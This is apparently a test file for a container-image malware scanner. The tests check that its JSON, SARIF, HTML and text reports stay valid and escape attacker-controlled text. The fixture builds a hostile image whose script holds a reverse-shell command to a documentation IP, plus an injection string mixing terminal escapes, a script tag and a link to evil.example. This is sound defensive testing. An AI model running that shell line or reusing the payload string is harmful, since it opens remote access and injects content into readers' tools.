"""Every output form is valid, and attacker text cannot break out of any."""
import html.parser
import json
import os
import pathlib
import re
import stat
import subprocess

import jsonschema

import support  # first: it sets the path
import images
import incident_2018

EVIL = "\x1b[2J\u202e<script>alert(1)</script>`|[x](http://evil.example)\n@everyone"


def write_evil(folder):
    layer = images.layer(images.File(f"tmp/{EVIL}.sh", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # " + EVIL + "\n", mode=0o755))
    image = images.Image([incident_2018.BASE, layer], entrypoint=["/bin/sh", "-c", f"/tmp/'{EVIL}'.sh"], labels={"note": EVIL},
                         history=[{"created_by": EVIL}, {"created_by": EVIL}])
    images.write_layout(folder, {"latest": image})


def output(folder, form):
    done = subprocess.run([support.LAZARET, "scan", "--no-cache", "--quiet", "--format", form, f"oci:{folder}"], capture_output=True, timeout=120)
    assert done.returncode == 1, done.stderr
    return done.stdout.decode("utf-8")


def test_json_follows_the_schema():
    schema = json.loads((support.ROOT / "docs" / "report.schema.json").read_text())
    with support.temporary_folder() as folder:
        write_evil(folder)
        report = json.loads(output(folder, "json"))
        jsonschema.validate(report, schema)
        for finding in report["findings"]:
            assert all(index < len(report["indicators"]) for index in finding["indicators"])


def test_sarif_follows_the_schema():
    path = pathlib.Path(support.os.environ.get("LAZARET_SHARED", support.ROOT.parent / "shared")) / "specs" / "sarif-schema-2.1.0.json"
    with support.temporary_folder() as folder:
        write_evil(folder)
        sarif = json.loads(output(folder, "sarif"))
        assert sarif["version"] == "2.1.0" and sarif["runs"][0]["results"]
        for rule in sarif["runs"][0]["tool"]["driver"]["rules"]:
            assert "What to do: " in rule["help"]["text"] and "What would change the judgement: " in rule["help"]["text"], rule["id"]
        if path.exists():
            jsonschema.validate(sarif, json.loads(path.read_text()))
        else:
            print("skipped: the SARIF schema is not there")


def test_html_has_no_script_and_nothing_to_fetch():
    class Parser(html.parser.HTMLParser):
        def handle_starttag(self, tag, attributes):
            assert tag not in {"script", "img", "link", "iframe", "object", "embed", "base", "form"}, tag
            for name, value in attributes:
                assert not name.startswith("on") and name not in {"src", "href", "srcset"}, (tag, name, value)

    with support.temporary_folder() as folder:
        write_evil(folder)
        page = output(folder, "html")
        Parser().feed(page)
        assert "Content-Security-Policy" in page


def test_no_form_lets_control_characters_through():
    with support.temporary_folder() as folder:
        write_evil(folder)
        for form in ("table", "json", "sarif", "markdown", "html"):
            text = output(folder, form)
            assert "\x1b" not in text, form
            if form != "json" and form != "sarif":
                assert "\u202e" not in text, form
            bad = [c for c in text if ord(c) < 32 and c != "\n"]
            assert not bad, (form, bad)


def test_a_device_given_as_output_stays_a_device():
    with support.temporary_folder() as folder:
        write_evil(folder)
        pipe = os.path.join(folder, "pipe")
        os.mkfifo(pipe)
        reader = subprocess.Popen(["cat", pipe], stdout=subprocess.PIPE, text=True)
        done = subprocess.run([support.LAZARET, "scan", "--no-cache", "--quiet", "--format", "json", "-o", pipe, f"oci:{folder}"], capture_output=True, timeout=120)
        report, _ = reader.communicate(timeout=60)
        assert done.returncode == 1 and json.loads(report)["verdict"] == "malicious", done.stderr
        assert stat.S_ISFIFO(os.stat(pipe).st_mode), "a file took the place of the pipe"


def test_several_targets_give_one_array():
    with support.temporary_folder() as folder:
        write_evil(folder)
        code, reports, _ = support.scan(f"oci:{folder}", f"oci:{folder}")
        assert code == 1 and isinstance(reports, list) and len(reports) == 2


def test_the_manual_page_names_every_option():
    page = (support.ROOT / "docs" / "lazaret.1").read_text().replace("\\-", "-")
    for command in ("scan", "diff", "rules", "intel trust-base", "intel list-bases", "serve", "gc", "fsck", "status", "images", "release", "hold", "reaudit", "backup", "restore", "doctor", "completion"):
        shown = subprocess.run([support.LAZARET, *command.split(), "--help"], capture_output=True, text=True, check=True).stdout
        assert f"lazaret {command}" in page
        for option in set(re.findall(r"--[a-z][a-z-]+", shown)) - {"--help"}:
            assert option in page, f"{option} of {command} is missing"


if __name__ == "__main__":
    support.main(globals())
